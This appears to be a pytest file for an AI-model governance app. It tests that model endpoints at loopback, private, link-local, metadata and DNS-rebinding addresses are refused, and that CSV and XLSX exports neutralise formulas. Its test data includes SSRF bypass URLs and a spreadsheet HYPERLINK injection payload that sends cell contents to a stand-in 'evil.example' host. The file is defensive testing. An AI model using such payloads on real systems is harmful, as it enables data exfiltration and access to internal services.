"""Hardening (../shared/reviews/SECURITY.md): model endpoints under the institution's control, exports without live
formulas. Address checks use a resolver the test controls and loopback listeners the test starts; no traffic goes
to any other range."""

from __future__ import annotations

import csv
import io
import ipaddress

import pytest
from openpyxl import load_workbook

from governance import endpoints
from governance.audit.backends import OpenAIBackend
from governance.audit.items import load_items
from governance.audit.prompts import build

from .conftest import make_app
from .support.openai_stub import StubConfig, StubServer


def resolver(table: dict[str, list[str]]):
    def resolve(host: str, _port: int) -> list[str]:
        if host in table:
            return table[host]
        try:
            ipaddress.ip_address(host)
            return [host]
        except ValueError:
            raise endpoints.EndpointRefused(f"the endpoint's host '{host}' cannot be resolved") from None
    return resolve


PUBLIC = resolver({"models.example.org": ["93.184.216.34"], "rebind.example.org": ["93.184.216.34", "127.0.0.1"],
                   "metadata.example.org": ["169.254.169.254"], "v6.example.org": ["fd00:ec2::254"]})


@pytest.mark.parametrize(("url", "refused_because"), [
    ("http://127.0.0.1:8000/v1", "loopback"),
    ("http://localhost:8000/v1", "loopback"),
    ("http://2130706433:8000/v1", "loopback"),  # 127.0.0.1 as one decimal number
    ("http://0x7f.1:8000/v1", "loopback"),
    ("http://[::1]:8000/v1", "loopback"),
    ("http://[::ffff:127.0.0.1]:8000/v1", "loopback"),
    ("http://10.1.2.3/v1", "private"),
    ("http://192.168.0.10:8000/v1", "private"),
    ("http://172.20.0.5/v1", "private"),
    ("http://169.254.169.254/latest/meta-data", "link-local"),
    ("http://metadata.example.org/v1", "link-local"),
    ("http://v6.example.org/v1", "private (unique local)"),
    ("http://100.64.0.1/v1", "shared"),
    ("http://0.0.0.0:8000/v1", "unspecified"),
    ("http://224.0.0.1/v1", "multicast"),
    ("http://rebind.example.org/v1", "loopback"),  # one public and one loopback address: refused
    ("ftp://models.example.org/v1", "scheme"),
    ("http://user:secret@models.example.org/v1", "credentials"),
    ("http:///v1", "no host"),
])
def test_internal_addresses_are_refused_saying_why_and_who_can_allow_them(url, refused_because):
    system_names = {"localhost", "2130706433", "0x7f.1"}
    resolve = endpoints.system_resolver if any(f"//{n}:" in url for n in system_names) else PUBLIC
    with pytest.raises(endpoints.EndpointRefused) as refused:
        endpoints.check(url, endpoints.EndpointPolicy(), resolve)
    assert refused_because in str(refused.value)
    if refused_because not in {"scheme", "credentials", "no host"}:
        assert "administrator can allow it" in str(refused.value)


def test_public_and_allowed_addresses_pass_and_the_checked_address_is_kept():
    checked = endpoints.check("https://models.example.org/v1", endpoints.EndpointPolicy(), PUBLIC)
    assert checked.address == "93.184.216.34" and checked.port == 443 and checked.host_header == "models.example.org"
    allowed = endpoints.EndpointPolicy(networks=(ipaddress.ip_network("10.20.0.0/16"),))
    assert endpoints.check("http://10.20.3.4:8000/v1", allowed, PUBLIC).address == "10.20.3.4"
    with pytest.raises(endpoints.EndpointRefused):
        endpoints.check("http://10.21.0.1:8000/v1", allowed, PUBLIC)
    by_name = endpoints.EndpointPolicy(hosts=frozenset({"gpu.hospital.internal"}))
    assert endpoints.check("http://gpu.hospital.internal:8000/v1", by_name,
                           resolver({"gpu.hospital.internal": ["10.0.0.7"]})).address == "10.0.0.7"
    ports = endpoints.EndpointPolicy(ports=frozenset({8000}))
    with pytest.raises(endpoints.EndpointRefused, match="port 9000"):
        endpoints.check("http://models.example.org:9000/v1", ports, PUBLIC)


def test_the_audit_connects_to_the_checked_address_not_to_a_new_lookup():
    """The name is never resolved again: a host that does not even exist reaches the pinned loopback stub."""
    item = next(i for i in load_items("builtin").items if i.item_type == "mcq_single")
    with StubServer(StubConfig()) as server:
        backend = OpenAIBackend(f"http://model.invalid:{server.port}/v1", "stub-model", address="127.0.0.1")
        assert backend.describe()["served_models"] == ["stub-model"]
        [(_, response)] = list(backend.stream([build(item, "en", 1)]))
    assert response.text in {"A", "B", "C", "D"} and not response.infrastructure


@pytest.fixture
def strict_app(tmp_path, database_url):
    """An app with the production default: nothing but public addresses (no loopback allowance)."""
    return make_app(tmp_path, database_url, endpoint_allow_networks=())


def test_a_submitters_loopback_endpoint_is_refused_through_the_api(strict_app, tmp_path):
    from governance.db import get_db
    from governance.operations.tokens import create_token

    from .factories import Factory

    session = get_db(strict_app).session_factory()
    factory = Factory(strict_app, session)
    deployment = factory.deployment()
    owner = factory.person("submitter")
    _token, token = create_token(session, owner, name="ci", scope="submit", actor=owner)
    session.commit()
    client = strict_app.test_client()
    for endpoint in ("http://127.0.0.1:8000/v1", "http://169.254.169.254/latest", "/etc"):
        reply = client.post("/api/v1/submissions", headers={"Authorization": f"Bearer {token}"}, json={
            "deployment_id": deployment.id, "kind": "initial", "model_version": {
                "version_label": f"v-{abs(hash(endpoint)) % 1000}", "base_model": "Qwen/Qwen2.5-7B-Instruct",
                "weights_digest": "ab" * 32, "endpoint": endpoint, "served_model_id": "m"}})
        assert reply.status_code in {400, 422}, (endpoint, reply.status_code, reply.get_data(as_text=True))
        message = reply.get_json()["error"]
        assert "administrator can" in message and ("loopback" in message or "link-local" in message or
                                                   "model folder" in message), message
    session.close()


def test_exports_carry_no_live_formula(factory, client):
    from .test_web import login

    factory.deployment(name='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    factory.deployment(name="@SUM(1+1)")
    login(client, factory.person("compliance"))
    text = client.get("/registry.csv").get_data().decode("utf-8-sig")
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert any(n.startswith("'=HYPERLINK") for n in names) and any(n.startswith("'@SUM") for n in names)
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    workbook = load_workbook(io.BytesIO(client.get("/registry.xlsx").get_data()))
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2)]
    formulas = [c for c in cells if c.value and str(c.value).startswith("=")]
    assert formulas and all(c.data_type == "s" for c in formulas)  # the text, as a string cell, not a formula
